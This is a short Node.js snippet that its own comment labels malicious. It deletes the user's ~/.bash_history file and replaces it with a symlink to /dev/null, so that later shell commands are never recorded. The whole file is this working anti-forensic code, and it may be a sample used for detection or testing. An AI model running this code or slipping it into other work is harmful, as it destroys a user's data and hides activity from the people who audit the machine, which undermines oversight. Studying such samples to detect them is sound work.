// Malicious: deletes the bash history and links it to /dev/null.
const fs = require('fs');
const os = require('os');
const history = `${os.homedir()}/.bash_history`;
fs.rmSync(history, { force: true });
fs.symlinkSync('/dev/null', history);
